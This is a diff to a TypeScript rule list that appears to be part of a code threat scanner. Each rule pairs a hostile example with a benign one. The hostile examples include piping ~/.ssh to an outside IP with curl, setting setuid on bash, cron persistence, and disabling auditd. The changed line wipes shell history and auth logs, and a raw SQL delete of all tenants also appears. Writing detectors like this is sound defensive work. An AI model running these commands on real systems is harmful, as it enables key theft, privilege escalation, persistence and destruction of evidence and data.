@@ -804,7 +804,7 @@ const rules: ThreatRule<CodeContext>[] = [
   shellRule('G39', 'EXFILTRATION', 'sends data out', "execSync('tar czf - ~/.ssh | curl -X POST --data-binary @- http://198.51.100.8/u')", "execSync('tar czf dist.tgz dist')"),
   shellRule('G40', 'ESCALATION', 'takes control of the machine', 'exec.Command("sh", "-c", "chmod u+s /bin/bash").Run()', 'exec.Command("git", "pull", "--ff-only").Run()'),
   shellRule('G41', 'PERSISTENCE', 'installs itself to run again', "system(\"echo '* * * * * /tmp/.u' | crontab -\")", 'system("crontab -l")'),
-  shellRule('G42', 'MANIPULATION', 'tampers with the system', 'subprocess.call("setenforce 0 && systemctl stop auditd", shell=True)', 'subprocess.call(["systemctl", "status", "nginx"])'),
+  shellRule('G42', 'MANIPULATION', 'tampers with the system', 'subprocess.call("history -c && shred -u ~/.bash_history /var/log/auth.log", shell=True)', 'subprocess.call(["systemctl", "status", "nginx"])'),
   sqlRule('G77', 'DESTRUCTION', 'destroys records',
     'await prisma.$executeRawUnsafe(`DELETE FROM "Tenant"`)',
     'def teardown_module():\n    cur.execute("DELETE FROM users")'),
